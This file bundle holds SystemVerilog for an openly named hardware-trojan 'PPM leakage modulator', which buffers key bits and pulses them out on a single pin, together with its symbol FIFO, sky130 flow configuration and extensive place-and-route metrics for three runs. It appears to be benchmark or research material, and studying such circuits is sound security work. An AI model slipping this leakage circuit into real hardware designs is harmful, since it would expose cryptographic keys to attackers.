==> src/rtl/trojan_pkg.sv <==
// Shared definitions for the PPM leakage modulator: FSM state encoding,
// symbol width, slots per symbol frame and small sizing/parity helpers.
// Imported by trojan_sym_fifo and trojan_ppm_modulator.
package trojan_pkg;

  // One key symbol carries two key bits; bit 0 is the earlier key bit.
  localparam int SYM_W = 2;

  // 4-ary PPM: one symbol frame is split into four equal slots.
  localparam int SLOTS = 4;

  typedef logic [SYM_W-1:0] sym_t;

  // PAR is only ever entered when the parity feature is compiled in.
  typedef enum logic [2:0] {
    IDLE   = 3'd0,
    PRE_HI = 3'd1,
    PRE_LO = 3'd2,
    SYM    = 3'd3,
    PAR    = 3'd4
  } state_e;

  // Counter width able to hold 0..n-1; never narrower than one bit.
  function automatic int ctr_width(input int n);
    return (n > 1) ? $clog2(n) : 1;
  endfunction

  // XOR of both bits of a symbol, folded into the running burst parity.
  function automatic logic sym_parity(input sym_t s);
    return ^s;
  endfunction

endpackage

==> src/rtl/trojan_sym_fifo.sv <==
// Register-based symbol FIFO of DEPTH x SYM_W entries sitting between the
// capture stage strobe and the PPM framer.  A push while full is honoured
// only when a pop happens in the same cycle, so the framer can drain and
// refill without losing a symbol.  Pointers wrap naturally mod DEPTH.
module trojan_sym_fifo
  import trojan_pkg::*;
#(
  parameter int DEPTH = 128
) (
  input  logic             clk,
  input  logic             rst_all,
  input  logic             push_i,
  input  logic [SYM_W-1:0] wdata_i,
  input  logic             pop_i,
  output logic [SYM_W-1:0] rdata_o,
  output logic             full_o,
  output logic             empty_o
);

  localparam int AW = ctr_width(DEPTH);

  logic [AW-1:0] wr_ptr_q, wr_ptr_d;
  logic [AW-1:0] rd_ptr_q, rd_ptr_d;
  logic [AW:0]   count_q,  count_d;
  sym_t          mem_q [DEPTH];
  logic          push_ok;
  logic          pop_ok;

  // Status flags, accepted push/pop qualification and next pointer/count values.
  always_comb begin
    full_o   = (count_q == (AW+1)'(DEPTH));
    empty_o  = (count_q == '0);
    pop_ok   = pop_i && !empty_o;
    push_ok  = push_i && (!full_o || pop_ok);
    wr_ptr_d = push_ok ? (wr_ptr_q + AW'(1)) : wr_ptr_q;
    rd_ptr_d = pop_ok  ? (rd_ptr_q + AW'(1)) : rd_ptr_q;
    count_d  = count_q;
    case ({push_ok, pop_ok})
      2'b10:   count_d = count_q + (AW+1)'(1);
      2'b01:   count_d = count_q - (AW+1)'(1);
      default: count_d = count_q;
    endcase
  end

  // Head of queue is always visible so the framer can latch it on the pop edge.
  always_comb begin
    rdata_o = mem_q[rd_ptr_q];
  end

  // Pointer and occupancy registers; reset empties the queue.
  always_ff @(posedge clk) begin
    if (rst_all) begin
      wr_ptr_q <= '0;
      rd_ptr_q <= '0;
      count_q  <= '0;
    end else begin
      wr_ptr_q <= wr_ptr_d;
      rd_ptr_q <= rd_ptr_d;
      count_q  <= count_d;
    end
  end

  // Storage array; contents are don't-care until written, so no reset.
  always_ff @(posedge clk) begin
    if (push_ok) begin
      mem_q[wr_ptr_q] <= wdata_i;
    end
  end

endmodule

==> src/rtl/trojan_ppm_modulator.sv <==
// PPM leakage modulator.  Buffers 2-bit key symbols from the capture stage
// and replays them on a single pin: every burst starts with PRE_CYC cycles
// high then PRE_CYC cycles low, followed by back-to-back 4-slot PPM frames
// where only the slot numbered by the symbol is driven high.
// Optional feature macro TROJAN_PPM_PARITY_EN: after every fourth symbol
// (and after a trailing partial byte) a SLOT_CYC-long parity slot carries
// the XOR of all symbol bits sent since the previous parity/preamble.
module trojan_ppm_modulator
  import trojan_pkg::*;
#(
  parameter int DEPTH    = 128,
  parameter int SLOT_CYC = 4,
  parameter int PRE_CYC  = 16
) (
  input  logic             clk,
  input  logic             rst_all,
  input  logic             enable,
  input  logic [SYM_W-1:0] sym,
  output logic             out,
  output logic             busy,
  output logic             ovf
);

  localparam int PW = ctr_width(PRE_CYC);
  localparam int SW = ctr_width(SLOT_CYC);
  localparam logic [PW-1:0] PRE_LAST  = PW'(PRE_CYC - 1);
  localparam logic [SW-1:0] SLOT_LAST = SW'(SLOT_CYC - 1);
  localparam logic [1:0]    IDX_LAST  = 2'(SLOTS - 1);

  state_e        state_q,       state_d;
  logic [PW-1:0] pre_ctr_q,     pre_ctr_d;
  logic [SW-1:0] slot_ctr_q,    slot_ctr_d;
  logic [1:0]    slot_idx_q,    slot_idx_d;
  logic [1:0]    sym_in_byte_q, sym_in_byte_d;
  sym_t          frame_q,       frame_d;
  logic          out_q,         out_d;
  logic          ovf_q,         ovf_d;
  logic          start_sym;
  logic          pop;
  sym_t          fifo_head;
  logic          fifo_full;
  logic          fifo_empty;
`ifdef TROJAN_PPM_PARITY_EN
  logic          par_q,         par_d;
`endif

  trojan_sym_fifo #(
    .DEPTH (DEPTH)
  ) u_fifo (
    .clk     (clk),
    .rst_all (rst_all),
    .push_i  (enable),
    .wdata_i (sym),
    .pop_i   (pop),
    .rdata_o (fifo_head),
    .full_o  (fifo_full),
    .empty_o (fifo_empty)
  );

  // Framing FSM: walks preamble, symbol slots and optional parity slot, and
  // decides on each frame boundary whether to chain another symbol.
  always_comb begin
    state_d       = state_q;
    pre_ctr_d     = pre_ctr_q;
    slot_ctr_d    = slot_ctr_q;
    slot_idx_d    = slot_idx_q;
    sym_in_byte_d = sym_in_byte_q;
    frame_d       = frame_q;
    start_sym     = 1'b0;
`ifdef TROJAN_PPM_PARITY_EN
    par_d         = par_q;
`endif
    case (state_q)
      IDLE: begin
        if (!fifo_empty) begin
          state_d       = PRE_HI;
          pre_ctr_d     = '0;
          sym_in_byte_d = '0;
`ifdef TROJAN_PPM_PARITY_EN
          par_d         = 1'b0;
`endif
        end
      end
      PRE_HI: begin
        if (pre_ctr_q == PRE_LAST) begin
          state_d   = PRE_LO;
          pre_ctr_d = '0;
        end else begin
          pre_ctr_d = pre_ctr_q + PW'(1);
        end
      end
      PRE_LO: begin
        if (pre_ctr_q == PRE_LAST) begin
          pre_ctr_d = '0;
          start_sym = 1'b1;
        end else begin
          pre_ctr_d = pre_ctr_q + PW'(1);
        end
      end
      SYM: begin
        if (slot_ctr_q != SLOT_LAST) begin
          slot_ctr_d = slot_ctr_q + SW'(1);
        end else if (slot_idx_q != IDX_LAST) begin
          slot_ctr_d = '0;
          slot_idx_d = slot_idx_q + 2'd1;
        end else begin
          slot_ctr_d    = '0;
          slot_idx_d    = '0;
          sym_in_byte_d = sym_in_byte_q + 2'd1;
`ifdef TROJAN_PPM_PARITY_EN
          if ((sym_in_byte_q != 2'd3) && !fifo_empty) begin
            start_sym = 1'b1;
          end else begin
            state_d = PAR;
          end
`else
          if (!fifo_empty) begin
            start_sym = 1'b1;
          end else begin
            state_d = IDLE;
          end
`endif
        end
      end
`ifdef TROJAN_PPM_PARITY_EN
      PAR: begin
        if (slot_ctr_q != SLOT_LAST) begin
          slot_ctr_d = slot_ctr_q + SW'(1);
        end else begin
          slot_ctr_d    = '0;
          sym_in_byte_d = '0;
          par_d         = 1'b0;
          if (!fifo_empty) begin
            start_sym = 1'b1;
          end else begin
            state_d = IDLE;
          end
        end
      end
`endif
      default: begin
        state_d = IDLE;
      end
    endcase
    if (start_sym) begin
      state_d    = SYM;
      frame_d    = fifo_head;
      slot_ctr_d = '0;
      slot_idx_d = '0;
`ifdef TROJAN_PPM_PARITY_EN
      par_d      = par_d ^ sym_parity(fifo_head);
`endif
    end
  end

  // Pin level is derived from where the FSM will be next cycle, so the
  // registered output changes on the very edge a state or slot is entered.
  always_comb begin
    out_d = 1'b0;
    case (state_d)
      PRE_HI:  out_d = 1'b1;
      SYM:     out_d = (slot_idx_d == frame_d);
`ifdef TROJAN_PPM_PARITY_EN
      PAR:     out_d = par_d;
`endif
      default: out_d = 1'b0;
    endcase
  end

  // A symbol is lost only when the queue is full and the framer is not
  // draining an entry in the same cycle; the flag then stays set.
  always_comb begin
    pop   = start_sym;
    ovf_d = ovf_q | (enable & fifo_full & ~pop);
  end

  // State, counters, frame register and flags.
  always_ff @(posedge clk) begin
    if (rst_all) begin
      state_q       <= IDLE;
      pre_ctr_q     <= '0;
      slot_ctr_q    <= '0;
      slot_idx_q    <= '0;
      sym_in_byte_q <= '0;
      frame_q       <= '0;
      out_q         <= 1'b0;
      ovf_q         <= 1'b0;
    end else begin
      state_q       <= state_d;
      pre_ctr_q     <= pre_ctr_d;
      slot_ctr_q    <= slot_ctr_d;
      slot_idx_q    <= slot_idx_d;
      sym_in_byte_q <= sym_in_byte_d;
      frame_q       <= frame_d;
      out_q         <= out_d;
      ovf_q         <= ovf_d;
    end
  end

`ifdef TROJAN_PPM_PARITY_EN
  // Running parity of the symbols sent since the last parity slot or preamble.
  always_ff @(posedge clk) begin
    if (rst_all) begin
      par_q <= 1'b0;
    end else begin
      par_q <= par_d;
    end
  end
`endif

  // Busy covers both an active burst and symbols still waiting in the queue.
  always_comb begin
    out  = out_q;
    ovf  = ovf_q;
    busy = (state_q != IDLE) || !fifo_empty;
  end

endmodule

==> config.mk <==
export PLATFORM = sky130hd
export DESIGN_NAME = trojan_ppm_modulator
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trojan_pkg.sv /design/src/rtl/trojan_sym_fifo.sv /design/src/rtl/trojan_ppm_modulator.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export CORE_UTILIZATION = 31
export CTS_CLUSTER_SIZE = 14
export DETAILED_ROUTE_END_ITERATION = 10
export PLACE_DENSITY = 0.46
export SLEW_MARGIN = 10
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
==> constraint.sdc <==
create_clock -name clk -period 2 [get_ports clk]
set_input_delay 0.4 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.4 -clock clk [all_outputs]
set_load 0.01 [all_outputs]
==> metrics, run 1 <==
Worst EP arrival approximately 2600 ps; internal power 10.4 mW; die width approximately 210 um; worst stage delay on the critical path around 330 ps; commonest non-fill, non-tap cell in the layout nand2_1; starting DRC count in detailed routing between 500 and 600; max_slew headroom between 30% and 40%; GRT Util Overall between 10% and 20%; dpl hpwl approximately 22 mm; r2r endpoint u_fifo.count_q[7]; Synth Area in XOR/XNOR less than 1%; GRT overflow 0; clk_skew 19.3 ps; Starting Density 31.8%; Leak ~6.1 nW; final critical-path share of the clock period 108%; MaxCap Viol Count 0; endpoint class of the critical path register; post-layout util about 43%; reg2reg start state_q[1]; IO Pins 8; Post-Synth Adder-Cell Area 0.574%; FF+latch count, synth 300; IO Port Bufs 7; pin count of the biggest net entering global routing 55; main combinational cell family by area after synthesis simple AND/OR/NAND/NOR gates; slew of the pin with the lowest slew margin around 900 ps; gpl congestion 0.778; core area approximately 41000 um^2; via/cell ratio a little under 5; post-synthesis compound-gate area fraction under 10%; Synth Area in Simple Gates between 20% and 30%; root buffer cell clkbuf_16; nets@finish 1407; RSZ-0062 raised after global routing yes; Syn Nets approximately 1300; CP Cell Sequence inv_2 -> nor3_4 -> nand3_4 -> buf_6 -> a21oi_4 -> nand2_4 -> buf_12 -> xor2_2 -> nand2_2 -> nor2_4 -> nand2_1 -> nand2_1 -> nand3_2 -> nor2_2 -> nor2_1; multiplexer share of the synthesized area less than 1%; TritonCTS Buffers 35; initial antenna violation count 0; DIE AREA 43000 um^2; Finished Layout Cells approximately 2000; first-pass GRT wire length ~56 mm; outcome finished, violations left; # hold bufs at CTS 0; syn avg cell area approximately 10 um^2; fin crit period 2160 ps; required time worst endpoint ~2400 ps; vias in the first global route 9610; Yosys warnings 0; DR vias between 9000 and 10000; worst reg-to-reg setup slack -160 ps; DRC Markers 0; clock latency on the worst-skew pair approximately 530 ps; Num Clock Sinks 300; library cells used by synthesis 47; Pwr Density 753 nW/um^2; R2R cell count 15; HP Start sym[1]; post-synthesis sequential area ratio approximately 65%; fmax between 0.4 and 0.5 GHz; Worst Hold Depth 1; Detail Route Antenna Nets 0; top_reg_cell synth edfxtp_1; register share of total power roughly half; setup slack after layout -162 ps; Logic pwr share between 4 and 5%; Net Sw Frac between 20 and 25%; Syn-to-layout area delta 34.6%; worst vdd ir 0.488 mV; placed cell area around 15000 um^2; worst-case hold slack roughly 320 ps; Crit path top cell by count nand2_1; most frequent cells in the layout nand2_1 (301), edfxtp_1 (256), nand3_1 (224); Hold WC Path Type input pin to register; Syn Std Cell Area roughly 13000 um^2; Worst Path Max Fanout 7; design area roughly 18000 um^2; WHS Endpoint u_fifo.mem_q[4][1]; switching power between 2 and 3 mW; Final Max Tran Viols 0; Die Span Y roughly 210 um; Startpoint Class register; clk buf depth 3; Post-Route WL about 36 mm; total iterations of the first detailed-routing run 4; Synth async-reset ratio 0%; Clock Power Share roughly 44%; final setup fails about 240; CTS H-tree lvls 2; critical path class register to register; DR WL/cell approximately 19 um; Clock transition at path regs roughly 60 ps; failing checks setup timing; number of flops mapped to enable cells by yosys about 260; slowest stage cell, crit path dfxtp_2; placed cell count 1862; setup tns final -14570 ps; Final Hold Vio Count 0; Mapped Cells 1281; layout cells sized above 1 31.4%; CTS tree done; Ant. Diodes 0; Site Rows 74
## registers in the layout, indices dropped and copies added, names as in the netlist, named ones only
| name | flops |
|---|---|
| slot_ctr_q | 2 |
| frame_q | 2 |
| ovf | 1 |
| slot_idx_q | 2 |
| pre_ctr_q | 4 |
| u_fifo.wr_ptr_q | 7 |
| u_fifo.count_q | 8 |
| u_fifo.mem_q | 256 |
| state_q | 3 |
| u_fifo.rd_ptr_q | 7 |
| out | 1 |
## logic make-up after synthesis
logic type,count (synthesis)
AOI/OAI and AO/OA,50
xor gates and xnor gates,8
adders and majority gates,6
buffers and inverters,120
DFF,300
muxes,1
other,1
and+or+nand+nor,795
## cell type report
cell class                 instances  area [um^2]
clock inverter                    13         70.1
tap                              532          666
inverter                          55          249
timing repair buffer             143         1660
multi-input combinational        861         5420
sequential                       300         8580
fill                            3907        23600
clock buffer                      50          963
## synthesized netlist by cell type (6+ instances only)
library cell  number  share of area, %
nor3_1            14              0.54
inv_1             47               1.3
ha_1               6              0.57
buf_2             22              0.84
nand2_1          324               9.3
nor2_1           160               4.6
nand3_1          265                10
dfxtp_1           44               6.7
a21oi_1           22              0.84
edfxtp_1         256                59
buf_1             14              0.40
o21ai_0           13              0.50
clkbuf_1          27              0.77
xor2_1             8              0.54
## metrics by stage
step	total power [mW]	setup slack [ps]
2_1_floorplan	7.14	-91.0
3_3_place_gp	7.44	-190
3_5_place_dp	7.44	-183
4_1_cts	13.4	-152
5_1_grt	13.7	-317
6_report	13.3	-162
## power by group through the flow
stage                     clock network (mW)  registers [mW]  logic (mW)
after floorplan                            0            6.96       0.181
after global placement                     0            6.95       0.489
after detailed placement                   0            6.95       0.486
after CTS                               5.97            6.82       0.591
after global routing                    6.20            6.82       0.657
final                                   5.83            6.82       0.611
## worst max path at each step
stage	slack, ps	endpoint	startpoint
6_report	-160	u_fifo.count_q[7]	state_q[1]
5_1_grt	-320	u_fifo.count_q[7]	state_q[1]
3_5_place_dp	-180	u_fifo.mem_q[99][1]	state_q[0]
3_3_place_gp	-190	u_fifo.count_q[4]	enable
4_1_cts	-150	u_fifo.mem_q[81][1]	pre_ctr_q[1]
2_1_floorplan	-90	u_fifo.mem_q[33][0]	state_q[0]
## metal layers
metal,up-vias,share of wire (%),track usage [%]
met2,142,48,28.8
met4,0,1.7,4.19
li1,4652,-,-
met5,-,0,0
met1,4643,46,22.6
met3,39,3.4,2.65
## worst max-delay path, delay by kind of cell (launching register included)
kind                      cells  cell delay (ps)
xor gates and xnor gates      1              160
buffers and inverters         3              340
AOI/OAI and AO/OA             1              230
and+or+nand+nor              10              990
DFF                           1              330
## repair_timing
item                                   in CTS  in global routing
setup endpoints to repair                 268                282
resized for setup                         256                131
buffers inserted                           21                  6
gates cloned                                5                  2
pin swaps                                  21                 21
endpoints found under the hold margin       0                  0
(Power assumes the default switching activity.)
==> run 2: changes to the inputs <==
--- a/config.mk
+++ b/config.mk
@@ -10,7 +10,7 @@
 export CTS_CLUSTER_SIZE = 14
 export DETAILED_ROUTE_END_ITERATION = 10
 export PLACE_DENSITY = 0.46
-export SLEW_MARGIN = 10
+export SLEW_MARGIN = 25
 export SYNTH_ARGS = -nofsm -noshare
 export SYNTH_HDL_FRONTEND = slang
 export SYNTH_SLANG_ARGS = --single-unit
==> results of run 2 <==
The final DEF is identical to that of run 1; final timing and power are the same.
==> run 3: changes to the inputs <==
--- a/config.mk
+++ b/config.mk
@@ -6,10 +6,10 @@
 export NUM_CORES = 1
 export LEC_CHECK = 0
 export ABC_AREA = 1
-export CORE_UTILIZATION = 31
+export CORE_UTILIZATION = 25
 export CTS_CLUSTER_SIZE = 14
 export DETAILED_ROUTE_END_ITERATION = 10
-export PLACE_DENSITY = 0.46
+export PLACE_DENSITY = 0.4
 export SLEW_MARGIN = 25
 export SYNTH_ARGS = -nofsm -noshare
 export SYNTH_HDL_FRONTEND = slang
==> metrics, run 3 (synthesis results as in run 1) <==
Ant. Diodes 0 (unchanged); Largest regs u_fifo.mem_q (256), u_fifo.count_q (8) (unchanged); slowest stage cell, crit path dfxtp_2 (unchanged); clock latency on the worst-skew pair 550 ps (was 530 ps); internal power 10.4 mW (about the same); first-pass GRT wire length 58.2 mm (was 56.0 mm); root buffer cell clkbuf_16 (unchanged); register area 8580 um^2 (about the same); initial antenna violation count 0 (unchanged); Logic pwr share 4.4% (was 4.6%); Net Sw Frac 22.6% (was 21.7%); clk_skew 16.8 ps (was 19.3 ps); die width 231 um (was 207 um); slew of the pin with the lowest slew margin 927 ps (was 893 ps); Clock transition at path regs 60 ps (about the same); Post-Route WL 40.2 mm (was 36.4 mm); GRT overflow 0 (unchanged); Final Hold Vio Count 0 (unchanged); DR WL/cell 18.9 um (was 18.7 um); Worst Path Max Fanout 9 (was 7); IO Port Bufs 7 (unchanged); Detail Route Antenna Nets 0 (unchanged); footprint of the multi-input gates 5550 um^2 (was 5420 um^2); critical path depth 14 (was 15); vias in the first global route 9829 (was 9610); starting DRC count in detailed routing 651 (was 587); DIE AREA 53300 um^2 (was 43000 um^2); register share of total power 50.9% (was 51.4%); most frequent cells in the layout nand2_1 (301), edfxtp_1 (256), nand3_1 (161) (was nand2_1 (301), edfxtp_1 (256), nand3_1 (224)); fmax 0.470 GHz (was 0.463 GHz); Die Span Y 231 um (was 207 um); Buf+Inv Stages, Crit Path 6 (was 3); r2r endpoint u_fifo.count_q[0] (was u_fifo.count_q[7]); pin count of the biggest net entering global routing 44 (was 55); worst reg-to-reg setup slack -130 ps (was -160 ps); Crit path top cell by count buf_4 (was nand2_1); Critical Path Sink u_fifo.count_q[0] (was u_fifo.count_q[7]); Hold WC Path Type input pin to register (unchanged); Leak 6.41 nW (was 6.07 nW); worst stage delay on the critical path 350 ps (was 330 ps); Num Clock Sinks 300 (unchanged); CP Cell Sequence ha_4 -> inv_2 -> nor3_4 -> nand2_2 -> a21oi_4 -> buf_4 -> buf_4 -> buf_4 -> inv_1 -> nand2_4 -> nand2_4 -> buf_4 -> o21ai_1 -> a21oi_1 (was inv_2 -> nor3_4 -> nand3_4 -> buf_6 -> a21oi_4 -> nand2_4 -> buf_12 -> xor2_2 -> nand2_2 -> nor2_4 -> nand2_1 -> nand2_1 -> nand3_2 -> nor2_2 -> nor2_1); worst vdd ir 0.434 mV (was 0.488 mV); dpl hpwl 23.3 mm (was 21.9 mm); filler cell count 5213 (was 3907); layout cells sized above 1 36.9% (was 31.4%); final setup fails 259 (was 241); # hold bufs at CTS 0 (unchanged); required time worst endpoint 2430 ps (was 2410 ps); DR vias 9778 (was 9476); failing checks setup timing (unchanged); total iterations of the first detailed-routing run 5 (was 4); Syn-to-layout area delta 40.1% (was 34.6%); Biggest register u_fifo.mem_q (unchanged); CTS H-tree lvls 2 (unchanged); setup slack after layout -129 ps (was -162 ps); gpl congestion 0.772 (was 0.778); DRC Markers 0 (unchanged); Startpoint Class register (unchanged); outcome finished, violations left (unchanged); Starting Density 25.4% (was 31.8%); commonest non-fill, non-tap cell in the layout nand2_1 (unchanged); Pwr Total 13.4 mW (was 13.3 mW); nets@finish 1432 (was 1407); max reg flops 256 (unchanged); CTS tree done (unchanged); endpoint class of the critical path register (unchanged); clk buf depth 3 (unchanged); core area 51500 um^2 (was 41200 um^2); Worst Setup SP pre_ctr_q[1] (was state_q[1]); critical path class register to register (unchanged); Pwr Density 731 nW/um^2 (was 753 nW/um^2); TritonCTS Buffers 36 (was 35); final critical-path share of the clock period 106% (was 108%); Worst EP arrival 2560 ps (was 2580 ps); Top delay family on crit path buffers and inverters (was simple AND/OR/NAND/NOR gates); IO Pins 8 (unchanged); Clock Power Share 44.6% (was 44.0%); MaxCap Viol Count 0 (unchanged); Site Rows 83 (was 74); reg2reg start pre_ctr_q[1] (was state_q[1]); max_slew headroom 37.7% (was 40.0%); RSZ-0062 raised after global routing yes (unchanged); R2R cell count 14 (was 15); switching power 3.02 mW (was 2.88 mW); via/cell ratio 4.60 (was 4.85); fin crit period 2130 ps (was 2160 ps); Place WS -190 ps (was -183 ps); Final Max Tran Viols 0 (unchanged); GRT Util Overall 14.5% (was 17.0%)
[run 3: cell type report]
| cell class | count | area share (%) |
|---|---|---|
| Tap cell | 680 | 4.64 |
| Sequential cell | 300 | 46.8 |
| Timing Repair Buffer | 165 | 11.0 |
| Timing Repair inverter | 2 | 0.137 |
| Clock buffer | 42 | 5.09 |
| Multi-Input combinational cell | 861 | 30.3 |
| Clock inverter | 19 | 0.703 |
| Inverter | 55 | 1.32 |
[run 3: how the worst min path moves through the flow]
stage | from | end | slack [ps] | cells past startpoint
CTS | sym[0] | u_fifo.mem_q[0][0] | 320 | 1
floorplan | slot_ctr_q[1] | slot_ctr_q[1] | 440 | 2
global placement | slot_ctr_q[1] | slot_ctr_q[1] | 450 | 2
detailed placement | ovf | ovf | 450 | 1
finish | sym[0] | u_fifo.mem_q[0][0] | 340 | 1
global route | sym[0] | u_fifo.mem_q[0][0] | 330 | 1
[run 3: worst reg2reg max path: cells and delay by family, from the launching register on]
kind / cells / cell delay [ps]
AOI/OAI and AO/OA: 3 / 460
adders and majority gates: 1 / 140
buffers and inverters: 6 / 670
DFF: 1 / 350
and+or+nand+nor: 4 / 410
[run 3: routing by layer]
metal  wire, um  part of all wire, %  global-route usage [%]  up-vias
met2      19200                   48                    23.6      171
li1           -                    -                       -     4709
met5          0                    0                       0        -
met1      18800                   47                    19.3     4854
met4        685                  1.7                    5.22        0
met3       1600                  4.0                    2.29       44
[run 3: repair_timing]
action,CTS,global route
cloned,1,17
setup buffers,3,12
resized for setup,190,230
setup endpoints to repair,263,278
pin swaps,14,58
[run 3: metrics by stage]
step	setup TNS, ps	cells	hold WS [ps]	util [%]	area [um^2]
finish	-12800	2124	338	35.6	18300
global route	-41020	2124	333	35.6	18300
global placement	-8980	2031	451	29.2	15100
CTS	-6740	2096	315	32.5	16800
detailed placement	-13030	2031	453	29.2	15100
floorplan	-7820	1281	441	-	13200
[run 3: power groups by stage]
stage	logic, mW	clock network, mW	registers (mW)
after floorplan	0.181	0	6.96
after global placement	0.504	0	6.95
after detailed placement	0.500	0	6.95
after CTS	0.533	6.16	6.82
after global routing	0.643	6.38	6.82
final	0.595	5.98	6.82
